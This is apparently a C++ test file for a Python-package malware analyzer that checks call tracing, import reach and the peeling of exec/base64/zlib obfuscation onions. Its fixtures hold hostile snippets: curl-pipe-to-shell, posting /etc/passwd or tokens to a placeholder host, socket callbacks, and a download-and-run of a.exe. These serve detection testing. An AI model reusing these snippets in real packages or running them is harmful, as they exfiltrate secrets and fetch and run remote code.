// Whole-package reach and payload peeling (engine/analysis/reach.h, design 2.8), on hand-made packages: what each
// entry runs, where each call lives (file, layer), and every cap on hostile shapes (cycles, self-exec, onions,
// bombs, huge module sets) ending in a truncation flag with the run going on.
#include "analysis/call_sequence.h"

#include <QByteArray>
#include <QElapsedTimer>
#include <QtTest>

#include <zlib.h>

#include <string>
#include <utility>
#include <vector>

using namespace mph;

namespace {

struct File {
    std::string path;
    std::string text;
};

std::vector<SourceFile> sourceFiles(const std::vector<File> &package) {
    std::vector<SourceFile> files;
    for (const File &file : package)
        files.push_back({file.path, file.text});
    return files;
}

CallSequence analyzeEntry(const std::vector<File> &package, std::size_t entry, std::string_view root = "p-1.0",
                          const AnalysisLimits &limits = {}) {
    ScriptAnalyzer analyzer(limits);
    return analyzer.analyze(sourceFiles(package), entry, root);
}

QStringList names(const CallSequence &sequence) {
    QStringList list;
    for (const CallToken &call : sequence.calls)
        list << QString::fromStdString(call.name);
    return list;
}

QStringList list(const char *spaceSeparated) {
    return QString::fromLatin1(spaceSeparated).split(QLatin1Char(' '), Qt::SkipEmptyParts);
}

// "path:layer" of each call's source.
QStringList sourcesOfCalls(const CallSequence &sequence) {
    QStringList list;
    for (const CallToken &call : sequence.calls) {
        const CodeSource &source = sequence.sources.at(call.source);
        list << QString::fromStdString(source.path) + ":" + QString::number(source.layer);
    }
    return list;
}

std::string zlibCompress(const std::string &text) {
    uLongf size = compressBound(static_cast<uLong>(text.size()));
    std::string out(size, '\0');
    compress2(reinterpret_cast<Bytef *>(out.data()), &size, reinterpret_cast<const Bytef *>(text.data()),
              static_cast<uLong>(text.size()), 9);
    out.resize(size);
    return out;
}

std::string base64(const std::string &bytes) {
    return QByteArray(bytes.data(), static_cast<qsizetype>(bytes.size())).toBase64().toStdString();
}

// One layer of the common onion: exec(zlib.decompress(base64.b64decode('...'))).
std::string wrapLayer(const std::string &code) {
    return "import base64, zlib\nexec(zlib.decompress(base64.b64decode('" + base64(zlibCompress(code)) + "')))\n";
}

} // namespace

class TestReach : public QObject {
    Q_OBJECT

  private slots:
    void initReExportsRunTheSubmodule() {
        // A trojanised library: __init__ only re-exports; the payload runs when core imports _telemetry.
        const std::vector<File> package = {
            {"p-1.0/lib/__init__.py", "from .core import *\nfrom ._version import __version__\n"},
            {"p-1.0/lib/core.py", "from . import _telemetry\nimport json\n\ndef dumps(x):\n    return json.dumps(x)\n"},
            {"p-1.0/lib/_telemetry.py", "import os, platform, urllib.request\n"
                                        "data = platform.node() + os.getlogin()\n"
                                        "urllib.request.urlopen('http://x.invalid/', data.encode())\n"},
            {"p-1.0/lib/_version.py", "__version__ = '1.0'\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0);
        QCOMPARE(names(sequence), list("platform.node os.getlogin ?.encode request.urlopen"));
        QCOMPARE(sourcesOfCalls(sequence).first(), QString("p-1.0/lib/_telemetry.py:0"));
        QCOMPARE(sequence.reachedFiles(), std::size_t(3)); // core, _telemetry, _version
        QVERIFY(!sequence.truncated);
        QCOMPARE(sequence.sources.front().path, std::string("p-1.0/lib/__init__.py"));
    }

    void callsIntoOwnModulesAreInlined() {
        // setup.py calls its helper module's function: the body's calls come at the call site, the name does not.
        const std::vector<File> package = {
            {"p-1.0/setup.py",
             "from setuptools import setup\nfrom setup_utils import prepare\nprepare('x')\nsetup(name='p')\n"},
            {"p-1.0/setup_utils.py",
             "import subprocess\n\ndef prepare(arg):\n    subprocess.call(['sh', '-c', arg])\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0);
        QCOMPARE(names(sequence), list("subprocess.call setuptools.setup"));
        QCOMPARE(sourcesOfCalls(sequence), QStringList({"p-1.0/setup_utils.py:0", "p-1.0/setup.py:0"}));
    }

    void relativeImportsResolveAgainstThePackage() {
        const std::vector<File> package = {
            {"pkg/__init__.py", "from .sub import run\nrun()\n"},
            {"pkg/sub/__init__.py", "from ..util import helper\n\ndef run():\n    helper()\n"},
            {"pkg/util.py", "import os\n\ndef helper():\n    os.system('id')\n"},
        };
        QCOMPARE(names(analyzeEntry(package, 0, "")), list("os.system"));
    }

    void packageFolderThatIsNoIdentifierStillRunsItsModules() {
        // `importlib.import_module("lab-3-pkg")` imports it, and its relative imports run (a real family does this:
        // a reverse shell in main.py, imported by the __init__ of a hyphenated folder). A dotted folder name cannot
        // be one module name, so it stays out.
        const std::vector<File> package = {
            {"lab-3-pkg/__init__.py", "from .main import shell\n"},
            {"lab-3-pkg/main.py", "import socket\ndef shell():\n    pass\nsocket.socket().connect(('h', 1))\n"},
            {"a.b/__init__.py", "from .c import x\n"},
            {"a.b/c.py", "import os\nos.system('id')\n"},
        };
        QCOMPARE(names(analyzeEntry(package, 0, "")), list("socket.socket ?.connect"));
        QCOMPARE(sourcesOfCalls(analyzeEntry(package, 0, "")),
                 QStringList({"lab-3-pkg/main.py:0", "lab-3-pkg/main.py:0"}));
        QCOMPARE(names(analyzeEntry(package, 2, "")), QStringList());
    }

    void importCyclesEndAndEachModuleRunsOnce() {
        const std::vector<File> package = {
            {"pkg/__init__.py", "from . import a\nimport os\nos.getcwd()\n"},
            {"pkg/a.py", "from . import b\nimport time\ntime.sleep(0)\n"},
            {"pkg/b.py", "from . import a\nfrom pkg import a\nimport pkg\nprint('b')\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0, "");
        QCOMPARE(names(sequence), list("print time.sleep os.getcwd"));
        QVERIFY(!sequence.truncated);
    }

    void setupExecutesAPackageFileByAJoinedPath() {
        const std::vector<File> package = {
            {"p-1.0/setup.py", "import os\nfrom setuptools import setup\n"
                               "here = os.path.dirname(os.path.abspath(__file__))\n"
                               "exec(open(os.path.join(here, 'pkg', '_hooks.py')).read())\n"
                               "setup(name='p')\n"},
            {"p-1.0/pkg/__init__.py", ""},
            {"p-1.0/pkg/_hooks.py",
             "import requests\nrequests.post('http://x.invalid', data=open('/etc/passwd').read())\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0);
        QCOMPARE(names(sequence), list("path.abspath path.dirname path.join open ?.read exec open ?.read requests.post "
                                       "setuptools.setup"));
        QCOMPARE(sourcesOfCalls(sequence).at(7), QString("p-1.0/pkg/_hooks.py:0"));
        QCOMPARE(sequence.reachedFiles(), std::size_t(1));
    }

    void otherWaysToRunAFile_data() {
        QTest::addColumn<QString>("setup");
        QTest::newRow("runpy.run_path") << QString("import runpy\nrunpy.run_path('tools/x.py')\n");
        QTest::newRow("runpy.run_module") << QString("import runpy\nrunpy.run_module('tools.x')\n");
        QTest::newRow("spec + exec_module")
            << QString("import importlib.util as u\ns = u.spec_from_file_location('x', 'tools/x.py')\n"
                       "m = u.module_from_spec(s)\ns.loader.exec_module(m)\n");
        QTest::newRow("subprocess sys.executable")
            << QString("import subprocess, sys\nsubprocess.call([sys.executable, 'tools/x.py'])\n");
        QTest::newRow("os.system python") << QString("import os\nos.system('python tools/x.py --quiet')\n");
        QTest::newRow("exec compile") << QString("exec(compile(open('tools/x.py').read(), 'x', 'exec'))\n");
        QTest::newRow("execfile") << QString("execfile('tools/x.py')\n");
    }
    void otherWaysToRunAFile() {
        QFETCH(QString, setup);
        const std::vector<File> package = {
            {"p-1.0/setup.py", setup.toStdString()},
            {"p-1.0/tools/__init__.py", ""},
            {"p-1.0/tools/x.py", "import socket\nsocket.create_connection(('x.invalid', 4444))\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0);
        QVERIFY2(names(sequence).contains("socket.create_connection"), qPrintable(names(sequence).join(' ')));
        QCOMPARE(sourcesOfCalls(sequence).last(), QString("p-1.0/tools/x.py:0"));
    }

    void unresolvedStaysACallToken() {
        // A path from the network, a module outside the package: nothing runs, the tokens are what they were.
        const std::vector<File> package = {
            {"p-1.0/setup.py", "import requests, runpy\nexec(requests.get(u).text)\nrunpy.run_path(p)\nimport numpy\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0);
        QCOMPARE(names(sequence), list("requests.get exec runpy.run_path"));
        QCOMPARE(sequence.sources.size(), std::size_t(1));
    }

    void callsIntoOwnModulesThatCannotBeFollowedAreOneToken() {
        // Names of the package's own code that reach cannot inline (a class attribute chain, a name the module does
        // not define) are `<local>`, not `Registry.register`: those names are this package's alone, and as tokens
        // they made every benign package look like an outlier. Outside names keep theirs.
        const std::vector<File> package = {
            {"pkg/__init__.py", "from pkg import core\n"
                                "core.Registry.register('x')\ncore.missing()\nimport json\njson.dumps(1)\n"},
            {"pkg/core.py", "class Registry:\n    pass\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0, "");
        QCOMPARE(names(sequence), list("<local> <local> json.dumps"));
        QCOMPARE(sequence.calls.front().source, 0u); // still where it stands, for the code view
    }

    void aModuleNamedLikeTheStandardLibraryHidesNothing() {
        // Python imports the standard library's os before a package's own os.py, so that file is not what
        // `import os` runs: neither its empty `system` nor `<local>` may stand in for os.system.
        const std::vector<File> package = {
            {"mypkg/__init__.py", "import os, subprocess\nos.system('id')\nsubprocess.Popen('id')\n"},
            {"os.py", "def system(command):\n    pass\n"},
            {"subprocess/__init__.py", "x = 1\n"},
        };
        QCOMPARE(names(analyzeEntry(package, 0, "")), list("os.system subprocess.Popen"));
    }

    void base64ZlibOnionIsPeeled() {
        const std::string inner = "import os\nos.system('curl http://x.invalid | sh')\n";
        const std::string script = wrapLayer(wrapLayer(wrapLayer(inner)));
        ScriptAnalyzer analyzer;
        const CallSequence sequence = analyzer.analyze(script);
        QCOMPARE(names(sequence), list("base64.b64decode zlib.decompress exec base64.b64decode zlib.decompress exec "
                                       "base64.b64decode zlib.decompress exec os.system"));
        QCOMPARE(sequence.layers(), std::size_t(3));
        const CodeSource &deepest = sequence.sources.at(sequence.calls.back().source);
        QCOMPARE(deepest.layer, 3u);
        QCOMPARE(deepest.text, inner);
        QCOMPARE(deepest.parent, 2);
        // Each layer's exec site is a range of its parent's text.
        const CodeSource &first = sequence.sources.at(1);
        QCOMPARE(first.parent, 0);
        QCOMPARE(script.substr(first.begin, first.end - first.begin), std::string("exec"));
        QVERIFY(!sequence.truncated);
    }

    void decodersAndFolding_data() {
        QTest::addColumn<QString>("script");
        const auto latin1 = [](const QByteArray &bytes) { return QString::fromLatin1(bytes); };
        QTest::newRow("hex") << "exec(bytes.fromhex('" + latin1(QByteArray("import os\nos.system('x')").toHex()) +
                                    "'))";
        QTest::newRow("unhexlify") << "import binascii\nexec(binascii.unhexlify('" +
                                          latin1(QByteArray("import os;os.system('x')").toHex()) + "').decode())";
        QTest::newRow("reversed") << QString("exec(')\"x\"(metsys.so;so tropmi'[::-1])");
        QTest::newRow("rot13") << QString("import codecs\nexec(codecs.decode('vzcbeg bf;bf.flfgrz(\"k\")', 'rot13'))");
        QTest::newRow("join") << QString("exec(''.join(['import o', 's;os.sys', 'tem(1)']))");
        QTest::newRow("concatenation via variables")
            << QString("a = 'import os'\nb = ';os.system(1)'\nc = a + b\nexec(c)");
        QTest::newRow("urlsafe base64")
            << "import base64\nexec(base64.urlsafe_b64decode('" +
                   latin1(QByteArray("import os;os.system(1)").toBase64(QByteArray::Base64UrlEncoding)) + "'))";
        QTest::newRow("python 2 str.decode")
            << "exec('" + latin1(QByteArray("import os;os.system(1)").toBase64()) + "'.decode('base64'))";
        QTest::newRow("python 2 exec statement") << "exec 'import os;os.system(1)' in globals()";
        QTest::newRow("-c code") << QString("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                                            "'import os;os.system(1)'])");
    }
    void decodersAndFolding() {
        QFETCH(QString, script);
        ScriptAnalyzer analyzer;
        const CallSequence sequence = analyzer.analyze(script.toStdString());
        QVERIFY2(names(sequence).endsWith("os.system"), qPrintable(names(sequence).join(' ')));
        QCOMPARE(sequence.layers(), std::size_t(1));
        QCOMPARE(sequence.sources.at(sequence.calls.back().source).layer, 1u);
    }

    void writtenThenRun() {
        const std::string payload = "import os\nos.system('whoami')\n";
        const std::vector<File> package = {
            {"p-1.0/setup.py", "import base64, os, subprocess, sys, tempfile\n"
                               "p = os.path.join('/tmp', 'x.py')\n"
                               "with open(p, 'w') as f:\n    f.write(base64.b64decode('" +
                                   base64(payload) +
                                   "').decode())\n"
                                   "subprocess.call([sys.executable, p])\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0);
        QVERIFY2(names(sequence).endsWith("os.system"), qPrintable(names(sequence).join(' ')));
        QCOMPARE(sequence.layers(), std::size_t(1));
        QCOMPARE(sequence.sources.at(sequence.calls.back().source).text, payload);
    }

    void binaryDecodedBytesAreNotParsed() {
        // marshal/PyArmor-style blobs stay opaque: decoded bytes that are not text are never walked as Python.
        const std::string blob = base64(std::string("\x63\x00\x00\x00\x00\x01\x02\x03\xe3\x10", 10));
        ScriptAnalyzer analyzer;
        const CallSequence sequence =
            analyzer.analyze("import marshal, base64\nexec(marshal.loads(base64.b64decode('" + blob + "')))\n");
        QCOMPARE(names(sequence), list("base64.b64decode marshal.loads exec"));
        QCOMPARE(sequence.layers(), std::size_t(0));
    }

    // --- hostile shapes: each ends with a flag and a bounded walk ---

    void sixtyFourLayersArePeeled() {
        std::string code = "import os\nos.system('id')\n";
        for (int i = 0; i < 64; ++i)
            code = wrapLayer(code);
        ScriptAnalyzer analyzer;
        const CallSequence sequence = analyzer.analyze(code);
        QCOMPARE(sequence.layers(), std::size_t(64));
        QCOMPARE(names(sequence).last(), QString("os.system"));
        QVERIFY(!sequence.truncated);
    }

    void deepOnionStopsAtTheLayerCap() {
        // Each zlib+base64 layer grows the text by a constant and about 1%, so the onions an attacker can ship are a
        // few hundred layers deep; past maxLayers peeling stops with the flag set, whatever the depth.
        std::string onion = "import os\nos.system('id')\n";
        for (int i = 0; i < 250; ++i)
            onion = wrapLayer(onion);
        QElapsedTimer timer;
        timer.start();
        ScriptAnalyzer analyzer;
        const CallSequence deep = analyzer.analyze(onion);
        QVERIFY(deep.truncated);
        QCOMPARE(deep.layers(), std::size_t(AnalysisLimits{}.maxLayers));
        QVERIFY(!names(deep).contains("os.system"));
        qInfo("250-layer onion (%zu bytes): %zu layers peeled in %lld ms", onion.size(), deep.layers(),
              static_cast<long long>(timer.elapsed()));
    }

    void fileThatExecsItselfIsFlagged() {
        const std::vector<File> package = {
            {"p-1.0/setup.py", "import os\nos.getpid()\nexec(open(__file__).read())\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0);
        QCOMPARE(names(sequence), list("os.getpid open ?.read exec"));
        QVERIFY(sequence.truncated);
    }

    void mutualExecLoopEnds() {
        const std::vector<File> package = {
            {"p-1.0/setup.py", "exec(open('a.py').read())\n"},
            {"p-1.0/a.py", "import os\nos.getpid()\nexec(open('b.py').read())\n"},
            {"p-1.0/b.py", "import os\nos.getppid()\nexec(open('a.py').read())\n"},
        };
        const CallSequence sequence = analyzeEntry(package, 0);
        QCOMPARE(names(sequence).count("os.getpid"), 1);
        QCOMPARE(names(sequence).count("os.getppid"), 1);
        QVERIFY(sequence.truncated);
    }

    void decompressionBombInALiteralIsCapped() {
        const std::string zeros(64u << 20, 'A');
        const std::string script = "import zlib, base64\nx = zlib.decompress(base64.b64decode('" +
                                   base64(zlibCompress(zeros)) + "'))\nexec(x)\n";
        QElapsedTimer timer;
        timer.start();
        ScriptAnalyzer analyzer;
        const CallSequence sequence = analyzer.analyze(script);
        QVERIFY(sequence.truncated);
        QCOMPARE(names(sequence), list("base64.b64decode zlib.decompress exec"));
        qInfo("64 MiB zlib bomb: %lld ms", static_cast<long long>(timer.elapsed()));
    }

    void hundredThousandTinyModulesHitTheSourceCap() {
        std::vector<File> package;
        package.push_back({"pkg/__init__.py", "from . import m0\n"});
        for (int i = 0; i < 100000; ++i)
            package.push_back({"pkg/m" + std::to_string(i) + ".py",
                               "from . import m" + std::to_string(i + 1) + "\nimport os\nos.getpid()\n"});
        QElapsedTimer timer;
        timer.start();
        const CallSequence sequence = analyzeEntry(package, 0, "");
        QVERIFY(sequence.truncated);
        QVERIFY(sequence.sources.size() <= AnalysisLimits{}.maxSources);
        QVERIFY(!sequence.calls.empty());
        qInfo("100,000 modules: %zu sources, %zu calls, %lld ms", sequence.sources.size(), sequence.calls.size(),
              static_cast<long long>(timer.elapsed()));
    }

    void topLevelModuleIsAnEntryLikeAnyScript() {
        const std::vector<File> package = {
            {"winpatch.py", "import urllib.request, os\nurllib.request.urlretrieve('http://x.invalid/a', 'a.exe')\n"
                            "os.startfile('a.exe')\n"},
        };
        QCOMPARE(names(analyzeEntry(package, 0, "")), list("request.urlretrieve os.startfile"));
    }

    void dormantCodeIsWalkedOnlyWhenAsked() {
        // A stealer that only defines its functions: nothing runs at import, so the import sequence is empty; with
        // dormant code (--import-reach dormant) every function and method nothing called is walked, after what ran,
        // in definition order (grab on its own, then again where send calls it; beat only inside run).
        const std::vector<File> package = {
            {"steal/__init__.py", "from .core import *\n"},
            {"steal/core.py", "import os, requests\n"
                              "def grab():\n    return os.getenv('TOKEN')\n"
                              "def send():\n    requests.post('h', data=grab())\n"
                              "class Spy:\n    def run(self):\n        self.beat()\n    def beat(self):\n"
                              "        os.system('id')\n"
                              "print('loaded')\n"},
        };
        const PackageFiles parsed(sourceFiles(package), "");
        ScriptAnalyzer analyzer;
        QCOMPARE(names(analyzer.analyze(parsed, 0)), list("print"));
        const CallSequence dormant = analyzer.analyze(parsed, 0, true);
        QCOMPARE(names(dormant), list("print os.getenv os.getenv requests.post os.system"));
        QVERIFY(!dormant.truncated);
    }
};

QTEST_APPLESS_MAIN(TestReach)
#include "tst_reach.moc"
